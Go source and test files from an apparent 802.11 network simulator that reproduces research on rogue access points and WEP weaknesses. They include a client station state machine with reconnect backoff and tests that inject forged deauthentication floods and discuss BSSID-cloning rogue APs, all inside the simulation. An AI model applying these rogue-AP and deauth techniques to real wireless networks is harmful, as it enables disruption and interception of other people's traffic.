	if _, err := parseIEs([]byte{0, 5, 'a'}); err == nil {
		t.Fatal("truncated IE body accepted")
	}
}

func TestLLCRoundTrip(t *testing.T) {
	b := EncapsulateLLC(ethernet.TypeIPv4, []byte("ip packet"))
	if b[0] != 0xaa {
		t.Fatal("LLC does not start with 0xAA (FMS known plaintext)")
	}
	typ, payload, err := DecapsulateLLC(b)
	if err != nil || typ != ethernet.TypeIPv4 || string(payload) != "ip packet" {
		t.Fatalf("typ=%v payload=%q err=%v", typ, payload, err)
	}
}

func TestLLCRejectsGarbage(t *testing.T) {
	if _, _, err := DecapsulateLLC([]byte{1, 2, 3}); err == nil {
		t.Fatal("short LLC accepted")
	}
	bad := EncapsulateLLC(ethernet.TypeIPv4, []byte("x"))
	bad[0] = 0x00
	if _, _, err := DecapsulateLLC(bad); err == nil {
		t.Fatal("non-SNAP accepted")
	}
}

func TestQuickLLCRoundTrip(t *testing.T) {
	f := func(typ uint16, payload []byte) bool {
		gt, gp, err := DecapsulateLLC(EncapsulateLLC(ethernet.EtherType(typ), payload))
		return err == nil && gt == ethernet.EtherType(typ) && bytes.Equal(gp, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// Parsers must never panic on arbitrary bytes — they face the open air.
func TestQuickParsersNoPanic(t *testing.T) {
	f := func(b []byte) bool {
		_, _ = Unmarshal(b)
		_, _ = UnmarshalBeaconBody(b)
		_, _ = UnmarshalProbeReqBody(b)
		_, _ = UnmarshalAuthBody(b)
		_, _ = UnmarshalAssocReqBody(b)
		_, _ = UnmarshalAssocRespBody(b)
		_, _ = UnmarshalReasonBody(b)
		_, _, _ = DecapsulateLLC(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
