package dot11

import (
	"testing"

	"repro/internal/phy"
	"repro/internal/sim"
)

// TestBackoffGrowsWhenNoAP proves the reconnect ladder climbs: with no AP on
// the air, scan cycles must get sparser over time instead of running
// back-to-back. A full 11-channel scan takes ~1.35 s, so immediate rescans
// would fit ~44 cycles into a minute; backoff (250 ms doubling to 8 s) caps
// it far lower.
func TestBackoffGrowsWhenNoAP(t *testing.T) {
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	radio := m.AddRadio(phy.RadioConfig{Name: "sta", Channel: 1})
	st := NewSTA(k, radio, STAConfig{MAC: macSTA, SSID: "CORP"})
	st.Connect()

	var atTen uint64
	k.At(10*sim.Second, func() { atTen = st.ScanCycles })
	k.RunUntil(60 * sim.Second)

	if st.Backoffs == 0 {
		t.Fatal("no backoffs recorded while scanning an empty medium")
	}
	if st.BackoffLevel() == 0 {
		t.Fatal("backoff ladder did not climb")
	}
	if st.ScanCycles > 20 {
		t.Errorf("ScanCycles = %d in 60s — retries are not backing off", st.ScanCycles)
	}
	// The ladder caps at 8 s, so the last 50 seconds hold at most ~6 cycles;
	// without backoff they would hold ~37.
	late := st.ScanCycles - atTen
	if late > 8 {
		t.Errorf("%d scan cycles in the last 50s — ladder did not reach its cap", late)
	}
}

// TestBackoffResetsOnAssociation proves a successful join resets the ladder:
// fail for a while against dead air, then crash-restart the AP's radio and
// let the client in.
func TestBackoffResetsOnAssociation(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	w.ap.SetDown(true) // nothing to find at first
	w.st.Connect()
	w.k.RunUntil(15 * sim.Second)
	if w.st.BackoffLevel() == 0 {
		t.Fatal("ladder flat while the AP is down")
	}
	w.ap.SetDown(false)
	w.k.RunUntil(w.k.Now() + 30*sim.Second)
	if w.st.State() != StateAssociated {
		t.Fatalf("state = %v after AP restart", w.st.State())
	}
	if w.st.BackoffLevel() != 0 {
		t.Errorf("BackoffLevel = %d after association, want 0", w.st.BackoffLevel())
	}
}

// TestDeauthDoesNotLivelock floods the client with forged deauths and checks
// it keeps reassociating at a bounded rate: each deauth costs at least the
// base backoff before the next scan, so the scan count stays far below the
// deauth count, and once the storm ends the client settles back in.
func TestDeauthDoesNotLivelock(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	w.st.Connect()
	w.settle()
	if w.st.State() != StateAssociated {
		t.Fatal("precondition: not associated")
	}

	// Forge deauths from the AP's BSSID every 50 ms for 20 s.
	inj := NewInjector(w.k, w.m.AddRadio(phy.RadioConfig{Name: "attacker", Pos: phy.Position{X: 5}, Channel: 1}), 0)
	deauths := 0
	var tick func()
	tick = func() {
		if w.k.Now() > 25*sim.Second {
			return
		}
		deauths++
		inj.Inject(Frame{
			Type: TypeManagement, Subtype: SubtypeDeauth,
			Addr1: macSTA, Addr2: macAP, Addr3: macAP,
			Body: (&ReasonBody{Reason: ReasonDeauthLeaving}).Marshal(),
		})
		w.k.After(50*sim.Millisecond, tick)
	}
	w.k.At(5*sim.Second, tick)
	w.k.RunUntil(60 * sim.Second)

	if w.st.State() != StateAssociated {
		t.Errorf("state = %v after the storm passed", w.st.State())
	}
	if w.st.DeauthsReceived == 0 {
		t.Fatal("storm never landed")
	}
	// One scan per landed deauth plus the initial connect: every recovery
	// cycle pays at least the base backoff, so the 400-frame storm cannot
	// trigger more scans than the deauths that actually connected.
	if w.st.ScanCycles > w.st.DeauthsReceived+1 {
		t.Errorf("ScanCycles %d > deauths received %d + 1 — client is scan-livelocked",
			w.st.ScanCycles, w.st.DeauthsReceived)
	}
}
