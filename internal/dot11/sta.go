package dot11

import (
	"bytes"
	"sort"

	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/pkt"
	"repro/internal/sim"
	"repro/internal/wep"
)

// JoinPolicy selects among candidate BSSes after a scan.
type JoinPolicy int

// Join policies.
const (
	// JoinBestRSSI picks the strongest signal for the configured SSID —
	// what real client firmware does, and the behaviour the rogue AP
	// exploits by simply being closer or louder (experiment E1).
	JoinBestRSSI JoinPolicy = iota
	// JoinFirstSeen takes the first matching BSS discovered.
	JoinFirstSeen
	// JoinPinnedBSSID only joins the configured BSSID. Note that this is
	// NOT a defense against the paper's attack: the rogue clones the BSSID
	// (Figure 1 shows both APs as AA:BB:CC:DD).
	JoinPinnedBSSID
)

// scanKey identifies a scan-cache entry: BSSIDs are not unique when a rogue
// clones one, but (BSSID, channel) pairs are distinguishable to a scanner.
type scanKey struct {
	bssid   ethernet.MAC
	channel phy.Channel
}

// STAState is the client connection state.
type STAState int

// Client states.
const (
	StateIdle STAState = iota
	StateScanning
	StateAuthenticating
	StateAssociating
	StateAssociated
)

// String names the state.
func (s STAState) String() string {
	switch s {
	case StateIdle:
		return "idle"
	case StateScanning:
		return "scanning"
	case StateAuthenticating:
		return "authenticating"
	case StateAssociating:
		return "associating"
	case StateAssociated:
		return "associated"
	}
	return "?"
}

// STAConfig configures a client station.
type STAConfig struct {
	MAC  ethernet.MAC
	SSID string
	// WEPKey enables WEP on data frames (and shared-key auth if
	// SharedKeyAuth is set).
	WEPKey        wep.Key
	IVSource      wep.IVSource
	SharedKeyAuth bool
	JoinPolicy    JoinPolicy
	// PinnedBSSID is required by JoinPinnedBSSID.
	PinnedBSSID ethernet.MAC
	// ExcludeBSS, when set, rejects candidate BSSes during selection. The
	// attacker's client card uses it to avoid associating to its own
	// rogue AP (which advertises the same SSID and cloned BSSID).
	ExcludeBSS func(BSS) bool
	// ScanDwellTU is the per-channel listen time (default 120 TU, just
	// over a beacon interval).
	ScanDwellTU uint16
	// BeaconLossTimeout: disconnect after this long without a beacon
	// (default 1 s).
	BeaconLossTimeout sim.Time
	// AutoReconnect rescans after any disconnect (default true via
	// NewSTA; set DisableReconnect to turn off).
	DisableReconnect bool
	// ReconnectBackoffBase is the delay before the first retry after a
	// failed attempt or a disconnect (default 250 ms). Each consecutive
	// failure doubles the delay up to ReconnectBackoffMax (default 8 s),
	// plus uniform jitter of half the current step so colliding clients
	// desynchronise. A completed association resets the ladder. Without
	// this a deauth storm livelocks the client in a tight scan loop.
	ReconnectBackoffBase sim.Time
	ReconnectBackoffMax  sim.Time
	Rate                 phy.Rate
}

// STA is a client station. After Connect it scans, authenticates, associates
// and then exposes an ethernet.NIC for the host's IP stack.
type STA struct {
	*entity
	cfg    STAConfig
	kernel *sim.Kernel
	state  STAState
	bss    BSS
	nic    *staNIC

	scanResults map[scanKey]BSS
	scanChan    phy.Channel
	lastBeacon  sim.Time
	stepTimeout *sim.Event
	beaconCheck *sim.Event
	stopped     bool
	// backoffN counts consecutive failed connection attempts; it drives the
	// exponential reconnect ladder and resets on association.
	backoffN int

	// OnAssociate fires when association completes.
	OnAssociate func(bss BSS)
	// OnDisconnect fires on deauth, disassoc, or beacon loss.
	OnDisconnect func(reason string)

	// Counters.
	ScanCycles      uint64
	AssocCount      uint64
	Disconnects     uint64
	RxICVFailures   uint64
	DeauthsReceived uint64
	Backoffs        uint64
}

// NewSTA creates a station (idle; call Connect to join a network).
func NewSTA(k *sim.Kernel, radio *phy.Radio, cfg STAConfig) *STA {
	if cfg.ScanDwellTU == 0 {
		cfg.ScanDwellTU = 120
	}
	if cfg.BeaconLossTimeout == 0 {
		cfg.BeaconLossTimeout = sim.Second
	}
	if cfg.ReconnectBackoffBase == 0 {
		cfg.ReconnectBackoffBase = 250 * sim.Millisecond
	}
	if cfg.ReconnectBackoffMax == 0 {
		cfg.ReconnectBackoffMax = 8 * sim.Second
	}
	if cfg.IVSource == nil {
		cfg.IVSource = &wep.SequentialIV{}
	}
	if k.InvariantChecksEnabled() && len(cfg.WEPKey) > 0 {
		t := wep.NewIVTracker(cfg.IVSource, len(cfg.WEPKey))
		cfg.IVSource = t
		k.RegisterInvariant("wep/iv-policy-sta", t.Check)
	}
	s := &STA{
		entity: newEntity(k, radio, cfg.Rate, cfg.MAC),
		cfg:    cfg,
		kernel: k,
	}
	s.nic = &staNIC{sta: s}
	s.entity.handler = s.onFrame
	return s
}

// State reports the connection state.
func (s *STA) State() STAState { return s.state }

// BSS reports the currently (or last) joined BSS.
func (s *STA) BSS() BSS { return s.bss }

// NIC returns the station's network interface for the host IP stack. It is
// usable once associated; sends while disconnected are dropped.
func (s *STA) NIC() ethernet.NIC { return s.nic }

// MAC returns the station's hardware address.
func (s *STA) MAC() ethernet.MAC { return s.cfg.MAC }

// Stop disables the station.
func (s *STA) Stop() {
	s.stopped = true
	s.cancelTimers()
	s.state = StateIdle
}

func (s *STA) cancelTimers() {
	if s.stepTimeout != nil {
		s.stepTimeout.Cancel()
	}
	if s.beaconCheck != nil {
		s.beaconCheck.Cancel()
	}
}

// Connect begins scanning for the configured SSID. An explicit Connect is a
// fresh start: it resets the reconnect backoff ladder.
func (s *STA) Connect() {
	s.backoffN = 0
	s.connect()
}

// connect starts a scan cycle without touching the backoff ladder — the
// internal entry point retries use.
func (s *STA) connect() {
	if s.stopped {
		return
	}
	s.cancelTimers()
	s.state = StateScanning
	s.scanResults = make(map[scanKey]BSS)
	s.scanChan = phy.MinChannel
	s.ScanCycles++
	s.scanStep()
}

// BackoffLevel reports the current rung of the reconnect ladder (0 after a
// successful association).
func (s *STA) BackoffLevel() int { return s.backoffN }

// retry schedules the next connection attempt after a seeded exponential
// backoff with jitter. Every failure path — empty scan, management timeout,
// auth/assoc rejection, disconnect — funnels through here, so no sequence of
// adversarial frames can pin the client in a zero-delay scan loop.
func (s *STA) retry() {
	if s.stopped {
		return
	}
	if s.backoffN < 20 {
		s.backoffN++
	}
	s.Backoffs++
	s.cancelTimers()
	s.stepTimeout = s.kernel.After(s.backoffDelay(), s.connect)
}

func (s *STA) backoffDelay() sim.Time {
	step := s.cfg.ReconnectBackoffBase
	for i := 1; i < s.backoffN && step < s.cfg.ReconnectBackoffMax; i++ {
		step *= 2
	}
	if step > s.cfg.ReconnectBackoffMax {
		step = s.cfg.ReconnectBackoffMax
	}
	return step + s.rng.Jitter(step/2)
}

func (s *STA) scanStep() {
	if s.stopped || s.state != StateScanning {
		return
	}
	if s.scanChan > phy.MaxChannel {
		s.finishScan()
		return
	}
	s.radio.SetChannel(s.scanChan)
	// Active scan: probe, then dwell listening for beacons/responses.
	probe := ProbeReqBody{SSID: s.cfg.SSID}
	s.transmit(Frame{
		Type: TypeManagement, Subtype: SubtypeProbeReq,
		Addr1: ethernet.BroadcastMAC, Addr2: s.cfg.MAC, Addr3: ethernet.BroadcastMAC,
		Body: probe.Marshal(),
	})
	s.stepTimeout = s.kernel.After(sim.Time(s.cfg.ScanDwellTU)*TU, func() {
		s.scanChan++
		s.scanStep()
	})
}

func (s *STA) finishScan() {
	best, ok := s.pickBSS()
	if !ok {
		s.retry() // nothing found; back off before the next scan cycle
		return
	}
	s.join(best)
}

// pickBSS applies the join policy to scan results. Candidates are compared
// in sorted (BSSID, channel) order so that ties — e.g. a cloned BSSID at the
// exact same RSSI — resolve the same way every run, keeping the simulation a
// pure function of the seed rather than of map iteration order.
func (s *STA) pickBSS() (BSS, bool) {
	keys := make([]scanKey, 0, len(s.scanResults))
	for k := range s.scanResults {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		a, b := keys[i], keys[j]
		if c := bytes.Compare(a.bssid[:], b.bssid[:]); c != 0 {
			return c < 0
		}
		return a.channel < b.channel
	})
	var best BSS
	found := false
	for _, k := range keys {
		b := s.scanResults[k]
		if b.SSID != s.cfg.SSID {
			continue
		}
		if s.cfg.JoinPolicy == JoinPinnedBSSID && b.BSSID != s.cfg.PinnedBSSID {
			continue
		}
		if s.cfg.ExcludeBSS != nil && s.cfg.ExcludeBSS(b) {
			continue
		}
		if !found {
			best, found = b, true
			continue
		}
		switch s.cfg.JoinPolicy {
		case JoinBestRSSI, JoinPinnedBSSID:
			if b.RSSIDBm > best.RSSIDBm {
				best = b
			}
		case JoinFirstSeen:
			if b.LastSeen < best.LastSeen {
				best = b
			}
		}
	}
	return best, found
}

const mgmtTimeout = 100 * sim.Millisecond

func (s *STA) join(b BSS) {
	s.bss = b
	s.radio.SetChannel(b.Channel)
	s.state = StateAuthenticating
	alg, seq := AuthOpen, uint16(1)
	if s.cfg.SharedKeyAuth && s.cfg.WEPKey != nil {
		alg = AuthSharedKey
	}
	body := AuthBody{Algorithm: alg, Seq: seq}
	s.transmit(Frame{
		Type: TypeManagement, Subtype: SubtypeAuth,
		Addr1: b.BSSID, Addr2: s.cfg.MAC, Addr3: b.BSSID,
		Body: body.Marshal(),
	})
	s.armStepTimeout()
}

func (s *STA) armStepTimeout() {
	if s.stepTimeout != nil {
		s.stepTimeout.Cancel()
	}
	s.stepTimeout = s.kernel.After(mgmtTimeout, func() {
		// Step timed out; back off, then start over.
		if s.state == StateAuthenticating || s.state == StateAssociating {
			s.retry()
		}
	})
}

func (s *STA) onFrame(f Frame, info phy.RxInfo) {
	if s.stopped {
		return
	}
	if f.Addr1 != s.cfg.MAC && !f.Addr1.IsBroadcast() {
		return
	}
	switch f.Type {
	case TypeManagement:
		s.onManagement(f, info)
	case TypeData:
		s.onData(f)
	}
}

func (s *STA) onManagement(f Frame, info phy.RxInfo) {
	switch f.Subtype {
	case SubtypeBeacon, SubtypeProbeResp:
		body, err := UnmarshalBeaconBody(f.Body)
		if err != nil {
			return
		}
		b := BSS{
			SSID:           body.SSID,
			BSSID:          f.Addr2,
			Channel:        phy.Channel(body.Channel),
			RSSIDBm:        info.RSSIDBm,
			Capability:     body.Capability,
			BeaconInterval: body.BeaconInterval,
			LastSeen:       s.kernel.Now(),
		}
		if s.state == StateScanning {
			// Keep the strongest sighting per (BSSID, channel): a cloned
			// BSSID on another channel is a distinct candidate, exactly as
			// in Figure 1.
			key := scanKey{bssid: b.BSSID, channel: b.Channel}
			if prev, ok := s.scanResults[key]; !ok || b.RSSIDBm > prev.RSSIDBm {
				s.scanResults[key] = b
			}
		}
		if s.state == StateAssociated && f.Addr2 == s.bss.BSSID {
			s.lastBeacon = s.kernel.Now()
		}
	case SubtypeAuth:
		s.onAuth(f)
	case SubtypeAssocResp:
		s.onAssocResp(f)
	case SubtypeDeauth, SubtypeDisassoc:
		if s.state == StateAssociated && f.Addr2 == s.bss.BSSID {
			s.DeauthsReceived++
			s.disconnect("deauthenticated by AP")
		}
	}
}

func (s *STA) onAuth(f Frame) {
	if s.state != StateAuthenticating || f.Addr2 != s.bss.BSSID {
		return
	}
	body, err := UnmarshalAuthBody(f.Body)
	if err != nil {
		return
	}
	if body.Status != StatusSuccess {
		s.retry() // rejected; back off, then rescan
		return
	}
	switch {
	case body.Algorithm == AuthOpen && body.Seq == 2:
		s.sendAssocReq()
	case body.Algorithm == AuthSharedKey && body.Seq == 2:
		// Seal the challenge response with WEP (message 3).
		resp := AuthBody{Algorithm: AuthSharedKey, Seq: 3, Status: StatusSuccess, Challenge: body.Challenge}
		sealed := sealBody(s.cfg.WEPKey, s.cfg.IVSource, resp.Marshal())
		s.transmit(Frame{
			Type: TypeManagement, Subtype: SubtypeAuth, Protected: true,
			Addr1: s.bss.BSSID, Addr2: s.cfg.MAC, Addr3: s.bss.BSSID,
			Body: sealed,
		})
		s.armStepTimeout()
	case body.Algorithm == AuthSharedKey && body.Seq == 4:
		s.sendAssocReq()
	}
}

func (s *STA) sendAssocReq() {
	s.state = StateAssociating
	body := AssocReqBody{Capability: CapESS, SSID: s.cfg.SSID}
	s.transmit(Frame{
		Type: TypeManagement, Subtype: SubtypeAssocReq,
		Addr1: s.bss.BSSID, Addr2: s.cfg.MAC, Addr3: s.bss.BSSID,
		Body: body.Marshal(),
	})
	s.armStepTimeout()
}

func (s *STA) onAssocResp(f Frame) {
	if s.state != StateAssociating || f.Addr2 != s.bss.BSSID {
		return
	}
	body, err := UnmarshalAssocRespBody(f.Body)
	if err != nil {
		return
	}
	if body.Status != StatusSuccess {
		s.retry()
		return
	}
	if s.stepTimeout != nil {
		s.stepTimeout.Cancel()
	}
	s.state = StateAssociated
	s.backoffN = 0
	s.AssocCount++
	s.lastBeacon = s.kernel.Now()
	s.armBeaconCheck()
	if s.OnAssociate != nil {
		s.OnAssociate(s.bss)
	}
}

func (s *STA) armBeaconCheck() {
	interval := sim.Time(s.bss.BeaconInterval) * TU
	if interval == 0 {
		interval = 100 * TU
	}
	s.beaconCheck = s.kernel.After(interval, func() {
		if s.state != StateAssociated {
			return
		}
		if s.kernel.Now()-s.lastBeacon > s.cfg.BeaconLossTimeout {
			s.disconnect("beacon loss")
			return
		}
		s.armBeaconCheck()
	})
}

func (s *STA) disconnect(reason string) {
	s.Disconnects++
	s.state = StateIdle
	s.cancelTimers()
	if s.OnDisconnect != nil {
		s.OnDisconnect(reason)
	}
	if !s.cfg.DisableReconnect && !s.stopped {
		s.retry()
	}
}

func (s *STA) onData(f Frame) {
	if s.state != StateAssociated || !f.FromDS || f.Addr2 != s.bss.BSSID {
		return
	}
	if f.Addr3 == s.cfg.MAC {
		return // our own broadcast echoed back by the AP
	}
	body := f.Body
	var pb *pkt.Buf // decrypt buffer, released after the synchronous delivery
	if f.Protected {
		if s.cfg.WEPKey == nil {
			return
		}
		pb = s.kernel.BufPool().GetCopy(body)
		if err := wep.OpenInPlace(s.cfg.WEPKey, pb); err != nil {
			s.RxICVFailures++
			pb.Release()
			return
		}
		body = pb.Bytes()
	} else if s.cfg.WEPKey != nil && s.bss.Privacy() {
		return // network requires WEP; drop cleartext
	}
	t, payload, err := DecapsulateLLC(body)
	if err == nil && s.nic.recv != nil {
		s.nic.recv(ethernet.Frame{Dst: f.Addr1, Src: f.Addr3, Type: t, Payload: payload})
	}
	if pb != nil {
		pb.Release()
	}
}

// sendData transmits a ToDS data frame to the AP, copying the payload into a
// pooled buffer (convenience path; the IP stack hands over owned buffers via
// the NIC's SendBuf).
func (s *STA) sendData(dst ethernet.MAC, t ethernet.EtherType, payload []byte) {
	s.sendDataBuf(dst, t, s.kernel.BufPool().GetCopy(payload))
}

// sendDataBuf transmits a ToDS data frame, encapsulating in place: LLC, then
// optionally WEP, then the MAC header, all pushed into pb's headroom. Takes
// ownership of pb on every path.
//
//simvet:owner transfer releases pb when not associated, else forwards it to the transmit queue
func (s *STA) sendDataBuf(dst ethernet.MAC, t ethernet.EtherType, pb *pkt.Buf) {
	if s.state != StateAssociated {
		pb.Release()
		return
	}
	putLLC(pb.Push(LLCLen), t)
	protected := false
	if s.cfg.WEPKey != nil {
		wep.SealInPlace(s.cfg.WEPKey, s.cfg.IVSource.NextIV(), 0, pb)
		protected = true
	}
	s.transmitBuf(Frame{
		Type: TypeData, Subtype: SubtypeDataFrame, ToDS: true, Protected: protected,
		Addr1: s.bss.BSSID, Addr2: s.cfg.MAC, Addr3: dst,
	}, pb)
}

// staNIC adapts the station to the ethernet.NIC interface.
type staNIC struct {
	sta  *STA
	recv ethernet.Receiver
}

func (n *staNIC) HWAddr() ethernet.MAC            { return n.sta.cfg.MAC }
func (n *staNIC) MTU() int                        { return ethernet.DefaultMTU }
func (n *staNIC) SetReceiver(r ethernet.Receiver) { n.recv = r }
func (n *staNIC) Send(dst ethernet.MAC, t ethernet.EtherType, payload []byte) {
	n.sta.sendData(dst, t, payload)
}
func (n *staNIC) SendBuf(dst ethernet.MAC, t ethernet.EtherType, pb *pkt.Buf) {
	n.sta.sendDataBuf(dst, t, pb)
}

var _ ethernet.NIC = (*staNIC)(nil)
