package dot11

import (
	"testing"

	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
)

// lossyWorld builds an AP+STA pair over a medium with per-frame shadowing so
// some frames are lost and the MAC retry machinery engages.
func lossyWorld(t *testing.T, sigma float64, dist float64) (*sim.Kernel, *phy.Medium, *AP, *STA) {
	t.Helper()
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{ShadowingSigmaDB: sigma})
	ap := NewAP(k, m.AddRadio(phy.RadioConfig{Name: "ap", Pos: phy.Position{X: 0, Y: 0}, Channel: 1}),
		APConfig{SSID: "CORP", BSSID: macAP, Channel: 1})
	st := NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "sta", Pos: phy.Position{X: dist, Y: 0}, Channel: 1}),
		STAConfig{MAC: macSTA, SSID: "CORP"})
	return k, m, ap, st
}

func TestMACAcksGenerated(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	w.st.Connect()
	w.settle()
	w.ap.HostNIC().SetReceiver(func(f ethernet.Frame) {})
	before := w.ap.AcksSent
	for i := 0; i < 10; i++ {
		w.st.NIC().Send(macAP, ethernet.TypeIPv4, []byte("x"))
	}
	w.k.RunFor(sim.Second)
	if w.ap.AcksSent-before < 10 {
		t.Fatalf("AP acked %d/10 data frames", w.ap.AcksSent-before)
	}
}

func TestMACRetryRecoversLoss(t *testing.T) {
	// At 85 m with 3 dB shadowing a noticeable fraction of frames is lost;
	// every data frame must still arrive exactly once thanks to MAC
	// retries + duplicate filtering.
	k, _, ap, st := lossyWorld(t, 3, 85)
	st.Connect()
	k.RunUntil(10 * sim.Second)
	if st.State() != StateAssociated {
		t.Skip("edge station never associated under this seed")
	}
	var got int
	ap.HostNIC().SetReceiver(func(f ethernet.Frame) { got++ })
	const n = 200
	for i := 0; i < n; i++ {
		st.NIC().Send(macAP, ethernet.TypeIPv4, []byte("payload"))
	}
	k.RunUntil(k.Now() + 30*sim.Second)
	if st.MACRetries == 0 {
		t.Fatal("no MAC retries at the cell edge — loss model inert?")
	}
	// Allow a few frames to exceed the retry limit, but dups must be zero
	// at the IP layer (the dedup filter absorbs them).
	if got < n-int(st.TxFailed)-5 || got > n {
		t.Fatalf("AP host got %d/%d frames (retries=%d failed=%d dups=%d)",
			got, n, st.MACRetries, st.TxFailed, ap.DupsDropped)
	}
}

func TestMACDupFilterSuppressesRetryCopies(t *testing.T) {
	// Force a duplicate: deliver the same data frame twice with Retry set;
	// the second must be ACKed but not delivered.
	w := newWorld(t, APConfig{}, STAConfig{})
	w.st.Connect()
	w.settle()
	got := 0
	w.ap.HostNIC().SetReceiver(func(f ethernet.Frame) { got++ })

	inj := NewInjector(w.k, w.m.AddRadio(phy.RadioConfig{Name: "inj", Pos: phy.Position{X: 1, Y: 0}, Channel: 1}), 0)
	f := Frame{
		Type: TypeData, ToDS: true,
		Addr1: macAP, Addr2: macSTA, Addr3: macAP,
		Seq:  77,
		Body: EncapsulateLLC(ethernet.TypeIPv4, []byte("once")),
	}
	dupsBefore := w.ap.DupsDropped
	inj.InjectRaw(f)
	f.Retry = true
	inj.InjectRaw(f)
	w.k.RunFor(sim.Second)
	if got != 1 {
		t.Fatalf("delivered %d copies, want 1 (dups=%d)", got, w.ap.DupsDropped)
	}
	if w.ap.DupsDropped-dupsBefore != 1 {
		t.Fatalf("DupsDropped delta = %d", w.ap.DupsDropped-dupsBefore)
	}
}

func TestBroadcastNotAcked(t *testing.T) {
	w := newWorld(t, APConfig{}, STAConfig{})
	w.k.RunFor(2 * sim.Second) // beacons flow
	if w.st.AcksSent != 0 {
		t.Fatalf("station acked %d broadcast frames", w.st.AcksSent)
	}
}

func TestInjectorNeverWaitsForAcks(t *testing.T) {
	// An injector (no MAC identity) must be able to fire many frames at
	// an absent receiver without stalling its queue.
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	inj := NewInjector(k, m.AddRadio(phy.RadioConfig{Name: "inj", Channel: 1}), 0)
	for i := 0; i < 50; i++ {
		inj.Inject(Frame{
			Type: TypeManagement, Subtype: SubtypeDeauth,
			Addr1: macSTA, Addr2: macAP, Addr3: macAP,
			Body: (&ReasonBody{Reason: 3}).Marshal(),
		})
	}
	k.RunUntil(5 * sim.Second)
	if inj.TxFailed != 0 {
		t.Fatalf("injector recorded %d ack failures", inj.TxFailed)
	}
	if inj.radio.TxFrames != 50 {
		t.Fatalf("injector transmitted %d/50 frames", inj.radio.TxFrames)
	}
}

func TestRetryBitSetOnRetransmission(t *testing.T) {
	// Put a station far enough out that retries happen and watch the air.
	k, m, ap, st := lossyWorld(t, 3, 85)
	_ = ap
	mon := NewMonitor(m.AddRadio(phy.RadioConfig{Name: "mon", Pos: phy.Position{X: 1, Y: 0}, Channel: 1}))
	retryFrames := 0
	mon.OnFrame = func(f Frame, info phy.RxInfo) {
		if f.Retry {
			retryFrames++
		}
	}
	st.Connect()
	k.RunUntil(20 * sim.Second)
	if st.MACRetries > 0 && retryFrames == 0 {
		t.Fatalf("entity retried %d times but no Retry-bit frames on air", st.MACRetries)
	}
}
