package dot11

import (
	"bytes"
	"sort"

	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/pkt"
	"repro/internal/sim"
	"repro/internal/wep"
)

// APConfig configures an access point.
type APConfig struct {
	SSID    string
	BSSID   ethernet.MAC
	Channel phy.Channel
	// BeaconIntervalTU defaults to 100 TU (≈102.4 ms).
	BeaconIntervalTU uint16
	// WEPKey, when set, requires WEP on data frames and advertises the
	// privacy capability. Shared-key authentication is offered too.
	WEPKey wep.Key
	// IVSource defaults to a SequentialIV — the Airsnort-friendly choice
	// early firmware made.
	IVSource wep.IVSource
	// MACAllow, when non-nil, is the MAC-filtering ACL: only listed
	// stations may authenticate (paper §2.1: "keeping honest people
	// honest").
	MACAllow []ethernet.MAC
	Rate     phy.Rate
}

// stationState tracks one client through the 802.11 state machine.
type stationState struct {
	authenticated bool
	associated    bool
	aid           uint16
	challenge     []byte // outstanding shared-key challenge
}

// AP is an infrastructure-mode access point. It bridges three attachment
// points at L2: the wireless BSS, an optional wired uplink, and a host-side
// virtual NIC (the wlan0 a Linux hostap gateway routes through — the rogue
// uses this).
type AP struct {
	*entity
	cfg      APConfig
	kernel   *sim.Kernel
	stations map[ethernet.MAC]*stationState
	nextAID  uint16
	host     *apHostNIC
	uplink   *ethernet.Port
	beacon   *sim.Event
	started  sim.Time
	stopped  bool
	down     bool
	quiet    bool

	// OnAssociate, if set, fires when a station completes association.
	OnAssociate func(sta ethernet.MAC)
	// PortGate, if set, is consulted for every frame a station sends into
	// the distribution system; returning false drops it. An 802.1x
	// authenticator uses it to block traffic (other than EAPOL) from
	// unauthorized ports. Gated frames are counted in GateDrops.
	PortGate func(src ethernet.MAC, t ethernet.EtherType) bool

	// Counters for experiments.
	Beacons           uint64
	AuthRejects       uint64
	Associations      uint64
	ICVFailures       uint64
	Class3Errors      uint64
	UnprotectedDrops  uint64
	GateDrops         uint64
	Crashes           uint64
	SuppressedBeacons uint64
}

// NewAP creates and starts an access point: it begins beaconing immediately.
func NewAP(k *sim.Kernel, radio *phy.Radio, cfg APConfig) *AP {
	if cfg.BeaconIntervalTU == 0 {
		cfg.BeaconIntervalTU = 100
	}
	if cfg.IVSource == nil {
		cfg.IVSource = &wep.SequentialIV{}
	}
	if k.InvariantChecksEnabled() && len(cfg.WEPKey) > 0 {
		t := wep.NewIVTracker(cfg.IVSource, len(cfg.WEPKey))
		cfg.IVSource = t
		k.RegisterInvariant("wep/iv-policy-ap", t.Check)
	}
	radio.SetChannel(cfg.Channel)
	ap := &AP{
		entity:   newEntity(k, radio, cfg.Rate, cfg.BSSID),
		cfg:      cfg,
		kernel:   k,
		stations: make(map[ethernet.MAC]*stationState),
		started:  k.Now(),
	}
	ap.host = &apHostNIC{ap: ap}
	ap.entity.handler = ap.onFrame
	ap.scheduleBeacon()
	return ap
}

// Config returns the AP's configuration.
func (ap *AP) Config() APConfig { return ap.cfg }

// Stop silences the AP (no more beacons or responses).
func (ap *AP) Stop() {
	ap.stopped = true
	if ap.beacon != nil {
		ap.beacon.Cancel()
	}
}

// SetDown crashes the AP (true) or restarts it (false) — the apcrash fault.
// A crash is a reboot: the radio dies mid-air, beacons stop, and all station
// state is forgotten, so previously associated clients come back as class-3
// offenders until they reassociate. Restart resumes beaconing from a fresh
// timestamp epoch. Distinct from Stop, which is permanent decommissioning.
func (ap *AP) SetDown(down bool) {
	if down == ap.down || ap.stopped {
		return
	}
	ap.down = down
	if down {
		ap.Crashes++
